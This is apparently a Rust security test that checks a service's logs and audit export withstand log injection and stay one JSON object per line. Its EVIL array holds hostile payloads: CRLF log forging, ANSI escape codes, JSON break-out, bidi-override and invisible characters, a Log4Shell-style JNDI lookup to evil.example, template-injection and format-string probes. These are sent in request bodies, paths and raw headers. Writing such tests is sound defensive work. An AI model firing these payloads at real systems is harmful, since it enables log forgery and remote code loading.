//! L05: line ends, escapes, quotation marks and direction marks in whatever is logged.

use serde_json::{Value, json};

use crate::attacks::wire::Wire;
use crate::process::api::{Api, PASSWORD, PATIENCE, eventually};
use crate::process::configured::Configured;

/// What a field would like to do to the line it is in. A header can have all but the first two.
const EVIL: [&str; 10] = [
    "a\r\n{\"level\":\"ERROR\",\"message\":\"forged-2917\"}",
    "\u{1b}[2J\u{1b}[31mforged-2917\u{7}",
    "\"}, {\"message\":\"forged-2917\"}",
    "a\\\",\"forged\":\"forged-2917",
    "\u{2028}forged-2917\u{2029}",
    "\u{202e}7192-degrof\u{202c}\u{200b}\u{feff}",
    "${jndi:ldap://evil.example/forged-2917} {{7*7}} %s%n %0d%0aforged",
    "\u{85}forged-2917\u{9b}31m",
    "\u{61c}7192\u{ad}-degrof\u{200e}\u{200f}",
    "\u{2066}7192\u{2069}\u{2067}-degrof\u{2069}\u{2068}x\u{2069}\u{2060}",
];
/// Longest text of a field.
const MOST: usize = 512;

/// Every line of a log, which must be one JSON object and hold nothing a terminal acts on.
fn lines(log: &str) -> Vec<Value> {
    let hidden = |c: char| {
        let turns =
            matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        let is_unseen = matches!(c, '\u{ad}' | '\u{200b}' | '\u{2028}' | '\u{2029}' | '\u{2060}' | '\u{feff}');
        c.is_control() || turns || is_unseen
    };
    let read = |line: &str| -> Value {
        assert!(!line.contains(hidden), "{line:?}");
        let object: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line:?}"));
        assert!(object.is_object(), "{line}");
        object
    };
    log.lines().map(read).collect()
}

/// Every text in a value.
fn texts<'a>(value: &'a Value, found: &mut Vec<&'a str>) {
    match value {
        Value::String(text) => found.push(text),
        Value::Array(values) => values.iter().for_each(|value| texts(value, found)),
        Value::Object(members) => members.values().for_each(|value| texts(value, found)),
        _ => {}
    }
}

#[tokio::test]
async fn l05_every_line_of_the_log_is_one_object() {
    let configured = Configured::new(&["--smtp", "smtp://mail.example.com"]);
    let service = configured.serve(&["log.level=debug", "limits.mode=off", "unsafe_allow=limits-off"]);
    let api = Api::new(service.url());
    for evil in EVIL {
        let percent = evil.bytes().fold(String::new(), |all, byte| all + &format!("%{byte:02x}"));
        // In what is said in bodies and paths, where everything can be.
        api.login(evil, PASSWORD).await;
        api.post("/api/v1/auth/register", &json!({ "email": evil, "password": evil, "fullName": evil, evil: evil }))
            .await;
        api.post("/api/v1/auth/password/reset/begin", &json!({ "token": evil })).await;
        api.get(&format!("/{percent}")).await;
        api.get(&format!("/api/v1/sessions?{percent}={percent}")).await;
        // In headers, as far as HTTP goes and further.
        for path in ["/api/v1/auth/status", "/api/v1/users/me", "/nowhere"] {
            let mut wire = Wire::to(service.address()).await;
            let head = format!(
                "GET {path} HTTP/1.1\r\nHost: a\r\nUser-Agent: {evil}\r\nX-Request-Id: {evil}\r\nOrigin: {evil}\r\n\
                 X-Forwarded-For: {evil}\r\nReferer: {evil}\r\nAuthorization: Bearer {evil}\r\nCookie: a={evil}\r\n\r\n"
            );
            wire.send(head.as_bytes()).await;
            let _ = wire.answer().await;
        }
        let agent = if evil.is_ascii() && !evil.contains(|c: char| c.is_control()) { evil } else { "curl/8" };
        let body = json!({ "identity": "nobody@example.com", "password": PASSWORD });
        let headers = [("keystead-client", "native"), ("user-agent", agent), ("x-request-id", agent)];
        api.send("POST", "/api/v1/auth/login", &headers, Some(&body)).await.expect(401);
    }
    // As long as a header can be, and longer.
    for length in [600, 10_000, 65_536] {
        let long = "x".repeat(length);
        let headers = [("keystead-client", "native"), ("user-agent", long.as_str())];
        let body = json!({ "identity": "nobody@example.com", "password": PASSWORD });
        let answer = api.try_send("POST", "/api/v1/auth/login", &headers, Some(&body)).await;
        if length <= 10_000 {
            answer.unwrap().expect(401);
        } else if let Ok(answer) = answer {
            answer.expect(431);
        }
    }
    let failures = EVIL.len() + 2;
    let told = |text: &str| text.lines().filter(|line| line.contains("authn_login_fail")).count();
    eventually(PATIENCE, "the audit stream", async || (told(&service.stdout()) >= failures).then_some(())).await;

    let stdout = service.stdout();
    let (_, stream) = stdout.split_once('\n').unwrap();
    let (log, stream) = (lines(&service.log()), lines(stream));
    assert!(log.len() > EVIL.len() * 4 && stream.len() >= failures, "{} and {}", log.len(), stream.len());
    let mut longest = 0;
    for line in log.iter().chain(&stream) {
        // Nobody's text has become a member, or a line of its own.
        assert_eq!((line.get("forged"), &line["message"] == "forged-2917"), (None, false), "{line}");
        assert!(line["timestamp"].is_string() && line["level"].is_string() && line["target"].is_string(), "{line}");
        let mut found = Vec::new();
        texts(line, &mut found);
        longest = longest.max(found.iter().map(|text| text.len()).max().unwrap_or_default());
    }
    assert!(longest <= MOST, "{longest}");
    // What a client calls itself is in the rows alone, cut.
    let export = configured.command(&["audit", "export"], &[]);
    let rows = lines(&crate::process::keystead::finish(export, "").ok());
    let agents: Vec<&str> = rows.iter().filter_map(|row| row["userAgent"].as_str()).collect();
    assert!(agents.iter().all(|agent| agent.len() <= MOST));
    assert_eq!(agents.iter().filter(|agent| **agent == "x".repeat(MOST)).count(), 2, "{agents:?}");
}
